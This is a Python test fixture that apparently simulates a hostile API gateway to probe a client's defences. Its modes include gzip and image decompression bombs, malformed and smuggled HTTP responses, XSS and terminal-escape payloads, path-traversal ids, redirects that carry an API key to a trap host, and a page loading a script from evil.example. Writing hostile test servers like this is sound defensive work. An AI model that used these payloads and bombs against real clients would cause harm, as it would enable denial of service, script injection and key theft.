"""What a hostile gateway does with a request: each misbehaviour by its name, to the byte."""

from __future__ import annotations

import base64
import gzip
import itertools
import socket
import struct
import time
import zlib
from typing import Final, NoReturn
from urllib.parse import quote

import orjson

from gateprobe.model import Json
from tests.support.evidence.streams import frame
from tests.support.hostile.hostile_servers import KEY, Heard, Mode, Scene
from tests.support.loopback import reply, slam, until_closed

ACTIVE: Final = (
    "<script>document.title='pwned'</script><img src=x onerror=document.title='pwned'>"
    "\u202e\u2066txt.exe\x1b[31m\x1b]0;pwned\x07\x9b2J\r\n::error::x\n]]><!--|`[a](javascript:alert(1))=1+1\u2028\x00"
)
"""Text that tries to act wherever it is shown: markup, bidi, escape sequences, CI commands, links, formulas."""

_MB: Final = 1 << 20
_HEAD: Final = b"HTTP/1.1 200 OK\r\n"
_SSE: Final = _HEAD + b"Content-Type: text/event-stream\r\nConnection: close\r\n\r\n"


def whole(body: bytes, kind: str = "application/json", *headers: bytes, status: bytes = b"200 OK") -> bytes:
    """Write an HTTP answer with its length."""
    texts = (header.decode("latin-1") for header in (*headers, b"Connection: close"))
    return reply(body, *texts, status=status.decode("latin-1"), kind=kind)


def json_of(value: Json) -> bytes:
    """Write a JSON answer."""
    return whole(orjson.dumps(value))


def _chunk(data: bytes) -> bytes:
    return b"%x\r\n" % len(data) + data + b"\r\n"


def _png(width: int, height: int) -> bytes:
    """Write a PNG of one colour that is far larger than its bytes."""

    def part(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    packer = zlib.compressobj(9)
    row = bytes(1 + width // 8)
    rows = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", rows) + part(b"IEND", b"")


def _response(text: str = "ready", result: str | None = None) -> Json:
    call = {"type": "image_generation_call", "id": "ig_1", "status": "completed", "result": result}
    words = {"type": "message", "id": "msg_1", "role": "assistant", "status": "completed"}
    message = {**words, "content": [{"type": "output_text", "text": text, "annotations": []}]}
    return {
        "id": "resp_1",
        "object": "response",
        "status": "completed",
        "model": "gpt-5.5",
        "output": [call if result is not None else message],
    }


def _with_result(connection: socket.socket, heard: Heard, result: str) -> None:
    """Answer with a picture, or what stands for it, in the form that was asked for."""
    if heard.of_pictures:
        connection.sendall(json_of({"created": 1, "data": [{"b64_json": result}]}))
    elif heard.streams:
        ended = {"type": "response.completed", "sequence_number": 0, "response": _response(result=result)}
        connection.sendall(_SSE + frame(ended))
    else:
        connection.sendall(json_of(_response(result=result)))


def for_ever(connection: socket.socket, start: bytes, piece: bytes) -> NoReturn:
    """Send a start, and then one piece again and again until the client leaves."""
    connection.sendall(start)
    while True:
        connection.sendall(piece)


def endless_stream(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Send events for ever."""
    connection.sendall(_SSE)
    for number in itertools.count():
        connection.sendall(b'event: keepalive\ndata: {"type":"keepalive","sequence_number":%d}\n\n' % number)


def endless_comments(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Send comments for ever."""
    for_ever(connection, _SSE, b": PROCESSING\n\n" * 512)


def endless_json(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Send a JSON body for ever, in chunks."""
    for_ever(
        connection,
        _HEAD + b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n" + _chunk(b"["),
        _chunk(b"[0]," * 16384),
    )


def endless_head(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Send headers for ever."""
    connection.sendall(_HEAD)
    for number in itertools.count():
        connection.sendall(b"X-%d: %s\r\n" % (number, b"a" * 1000))


def endless_continue(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Send 100 Continue without end."""
    for_ever(connection, b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 64)


def long_line(connection: socket.socket, heard: Heard, _scene: Scene) -> None:
    """Send one event of 200 MB; and words of 2 MB where no stream was asked for."""
    if not heard.streams:
        connection.sendall(json_of(_response("a" * (2 * _MB))))
        return
    connection.sendall(_SSE + b'data: {"type":"response.completed","response":"')
    piece = b"A" * _MB
    for _ in range(200):
        connection.sendall(piece)
    connection.sendall(b'"}\n\n')


def gzip_bomb(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Send 6.4 GB of zeros in 6 MB of gzip."""
    connection.sendall(_HEAD + b"Content-Type: application/json\r\nContent-Encoding: gzip\r\nConnection: close\r\n\r\n")
    for _ in range(100):
        connection.sendall(_BOMB)


_BOMB: Final = gzip.compress(bytes(64 * _MB), 9)
_HUGE: Final = base64.b64encode(_png(60_000, 60_000)).decode()


def image_bomb(connection: socket.socket, heard: Heard, _scene: Scene) -> None:
    """Send a picture of 3.6 gigapixels in half a megabyte."""
    _with_result(connection, heard, _HUGE)


def no_picture(connection: socket.socket, heard: Heard, _scene: Scene) -> None:
    """Send 8 MB of base64 that is no picture."""
    _with_result(connection, heard, "QUFB" * (2 * _MB))


def slow_bytes(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Send a byte now and then."""
    for byte in whole(b'{"object":"list","data":[]}' * 1000):
        connection.sendall(bytes([byte]))
        time.sleep(0.05)


def dripping(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Answer whole, a byte now and then, in a little less time than anybody waits."""
    for byte in whole(b'{"object":"list","data":[]}'):
        connection.sendall(bytes([byte]))
        time.sleep(0.05)


def surplus(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Answer, and send what looks like the next answer at once."""
    connection.sendall(reply(b'{"object":"list","data":[]}') + reply(b'{"object":"list","data":[{"id":"spoof"}]}'))
    until_closed(connection)


def many_models(connection: socket.socket, heard: Heard, _scene: Scene) -> None:
    """List 200,000 models; in an Images answer, as many links."""
    if heard.of_pictures:
        entries: list[Json] = [{"url": f"https://127.0.0.1/{number}.png"} for number in range(200_000)]
    else:
        entries = [{"id": f"m-{number}", "object": "model", "created": 1, "owned_by": "x"} for number in range(200_000)]
    connection.sendall(json_of({"object": "list", "data": entries}))


def small_values(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Send 200 MB of empty objects, which take ten times as much memory once they are parsed."""
    head = _HEAD + b"Content-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
    piece = b"{}," * 65_536
    connection.sendall(head % (len(piece) * 1000 + 4) + b"[")
    for _ in range(1000):
        connection.sendall(piece)
    connection.sendall(b"{}]")


def long_words(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Refuse with words that are long, and make searches begin again and again."""
    text = "a" * 100_000 + "codex" * 20_000 + "/usr/" * 20_000 + "\n" * 100_000
    error = {"error": {"message": text, "type": text, "param": text, "code": text}}
    connection.sendall(whole(orjson.dumps(error), status=b"400 No"))


def silence(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Send nothing at all."""
    until_closed(connection)


def too_short(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Promise 1,000 bytes and send 20."""
    connection.sendall(
        _HEAD + b"Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n" + b'{"object":"list","da'
    )


def too_long(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Promise 2 bytes and send 2,000."""
    connection.sendall(_HEAD + b"Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{}" + b"HTTP/1.1 " * 222)


def two_lengths(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Promise two lengths at once, one of them negative."""
    connection.sendall(_HEAD + b"Content-Length: -1\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n{}")


def broken_chunks(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Send a chunk whose length is no number."""
    connection.sendall(_HEAD + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n")


def reset_before(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Reset before a word is said."""
    slam(connection)


def reset_in_head(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Reset in the middle of the head."""
    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Ty")
    time.sleep(0.05)
    slam(connection)


def reset_in_body(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Reset in the middle of an event."""
    connection.sendall(_SSE + b'data: {"type":"response.created","resp')
    time.sleep(0.05)
    slam(connection)


def redirect(connection: socket.socket, _heard: Heard, scene: Scene) -> None:
    """Send every request elsewhere, by each of the statuses for that."""
    status = (b"301 Moved", b"302 Found", b"303 See Other", b"307 Temporary", b"308 Permanent")[len(scene.heard) % 5]
    target = f"{scene.trap}/v1/steal?key={quote(KEY)}".encode()
    connection.sendall(
        b"HTTP/1.1 "
        + status
        + b"\r\nLocation: "
        + target
        + b"\r\nRefresh: 0; url="
        + target
        + b"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
    )


def links_elsewhere(connection: socket.socket, heard: Heard, scene: Scene) -> None:
    """Send links to another origin wherever a link may stand, and redirect those that are followed."""
    if heard.of_pictures:
        entry = {"url": f"{scene.trap}/picture.png"}
        connection.sendall(json_of({"created": 1, "data": [entry, {"url": f"{scene.url}@{scene.trap[7:]}/x.png"}]}))
    elif heard.line.startswith("GET") and "/models" not in heard.line:
        redirect(connection, heard, scene)
    else:
        words = f"![x]({scene.trap}/md.png) <img src='{scene.trap}/html.png'>"
        connection.sendall(json_of(_response(words)))


def injected_headers(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Send headers that hold escape sequences, folded lines, control bytes and a second answer."""
    connection.sendall(
        b"HTTP/1.1 200 \x1b[31mpwned\x1b[0m <b>\r\nContent-Type: application/json; <script>\r\n"
        b"X-Request-Id: req_\x1b]0;pwned\x07\xff\xfe\r\nX-Fold: a\r\n b\r\nSet-Cookie: a=b; Domain=com\r\n"
        b"Link: <javascript:alert(1)>; rel=preload\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"
        b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
    )


def no_http(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Speak another language."""
    connection.sendall(b"SSH-2.0-OpenSSH_9.9\r\n" + bytes(range(256)) * 20)


def odd_status(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Return a status that there is none of."""
    connection.sendall(whole(b"{}", status=b"999 \xf0\x9f\x92\xa9"))


def throttled(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Ask to come back in a month, and say that nothing is left for as long."""
    headers = (b"Retry-After: 2592000", b"x-ratelimit-remaining-requests: 0", b"x-ratelimit-reset-requests: 720h")
    connection.sendall(whole(b'{"error":{"message":"no"}}', "application/json", *headers, status=b"429 No"))


def not_text(connection: socket.socket, heard: Heard, _scene: Scene) -> None:
    """Send bytes that are no UTF-8, where text belongs."""
    wrong = b'{"object":"list","data":[{"id":"\xff\xfe\xc0\xaf\xed\xa0\x80"}]}'
    kind = "text/event-stream" if heard.streams else "application/json; charset=utf-16"
    connection.sendall(whole(b"data: " + wrong + b"\n\n\xff" if heard.streams else wrong, kind))


def deep_json(connection: socket.socket, heard: Heard, _scene: Scene) -> None:
    """Nest JSON 200,000 levels deep; and less deep than decoders refuse, but deeper than programs walk."""
    deep = b'{"error":' * 900 + b"1" + b"}" * 900 if heard.streams else b"[" * 200_000 + b"]" * 200_000
    body = b"data: " + deep + b"\n\n" if heard.streams else deep
    connection.sendall(whole(body, "text/event-stream" if heard.streams else "application/json"))


def odd_numbers(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Send numbers that no program expects."""
    body = _response()
    usage = {"input_tokens": -1, "output_tokens": 10**18, "total_tokens": 1e308}
    sent = orjson.dumps({**body, "usage": usage, "created_at": 1e300}).replace(
        b'"created_at":', b'"big":1e400,"created_at":'
    )
    connection.sendall(whole(sent))


def active_text(connection: socket.socket, heard: Heard, _scene: Scene) -> None:
    """Put text that tries to act into every string."""
    name = ACTIVE.encode("utf-8")
    if "/models" in heard.line:
        connection.sendall(json_of({"object": ACTIVE, "data": [{"id": ACTIVE, "object": ACTIVE, "owned_by": ACTIVE}]}))
    elif heard.streams:
        event = {"type": ACTIVE, "item": {"type": ACTIVE, "id": ACTIVE}, "sequence_number": ACTIVE, ACTIVE: ACTIVE}
        connection.sendall(
            _SSE + b"event: " + name.replace(b"\n", b" ").replace(b"\r", b" ") + b"\n" + frame(event, named=False)
        )
    elif heard.of_pictures:
        error = {"message": ACTIVE, "type": ACTIVE, "param": ACTIVE, "code": ACTIVE}
        connection.sendall(whole(orjson.dumps({"error": error}), status=b"400 No"))
    else:
        connection.sendall(json_of({**_response(ACTIVE), "id": ACTIVE, "model": ACTIVE, "status": ACTIVE}))


def path_ids(connection: socket.socket, heard: Heard, _scene: Scene) -> None:
    """Send ids that are paths, queries and other origins."""
    if "/models" in heard.line:
        names = ["../../../../etc/passwd", "..\\..\\x", "//evil.example/x", "a?b=c#d", "con", "x" * 5000, "%2e%2e/"]
        connection.sendall(json_of({"object": "list", "data": [{"id": name, "object": "model"} for name in names]}))
    else:
        connection.sendall(json_of({**_response(), "id": "../../../../../tmp/gateprobe-pwned"}))


def key_echoed(connection: socket.socket, heard: Heard, _scene: Scene) -> None:
    """Return the key back in every place and in many spellings, cut at every boundary."""
    spelt = [
        KEY,
        quote(KEY, safe=""),
        base64.b64encode(KEY.encode()).decode(),
        base64.b64encode(f"Bearer {KEY}".encode()).decode(),
        "".join(f"\\u{ord(character):04x}" for character in KEY),
        "".join(f"&#{ord(character)};" for character in KEY),
    ]
    everywhere = " ".join(spelt)
    if heard.streams:
        error = {"type": "error", "error": {"message": everywhere, "code": KEY}, "sequence_number": 0}
        event = frame(error, named=False)
        head = (
            _HEAD
            + b"Content-Type: text/event-stream\r\nX-Request-Id: "
            + KEY.encode()
            + b"\r\nConnection: close\r\n\r\n"
        )
        connection.sendall(head)
        for byte in event:
            connection.sendall(bytes([byte]))
        return
    inner = f'"message":"{spelt[4]} {spelt[5]} {spelt[3]}","type":"{spelt[1]}","param":"{spelt[2]}"'
    raw = f'{{"error":{{{inner}}}}}'.encode()
    reason = b"401 bad key " + KEY.encode()
    connection.sendall(
        whole(raw, "application/json", b"X-Key: " + KEY.encode(), b"X-" + b"K: " + quote(KEY).encode(), status=reason)
    )


def web_page(connection: socket.socket, _heard: Heard, _scene: Scene) -> None:
    """Answer everything with a page that runs scripts."""
    page = f"<!doctype html><html><body>{ACTIVE}<script src=//evil.example/x.js></script></body></html>"
    connection.sendall(whole(page.encode(), "text/html"))


MODES: Final[dict[str, Mode]] = {
    mode.__name__: mode
    for mode in (
        endless_stream,
        endless_comments,
        endless_json,
        endless_head,
        endless_continue,
        long_line,
        gzip_bomb,
        image_bomb,
        no_picture,
        slow_bytes,
        dripping,
        surplus,
        many_models,
        small_values,
        long_words,
        silence,
        too_short,
        too_long,
        two_lengths,
        broken_chunks,
        reset_before,
        reset_in_head,
        reset_in_body,
        redirect,
        links_elsewhere,
        injected_headers,
        no_http,
        odd_status,
        throttled,
        not_text,
        deep_json,
        odd_numbers,
        active_text,
        path_ids,
        key_echoed,
        web_page,
    )
}
"""Every misbehaviour by its name; `wrong_certificate` is a way to serve, not to answer."""
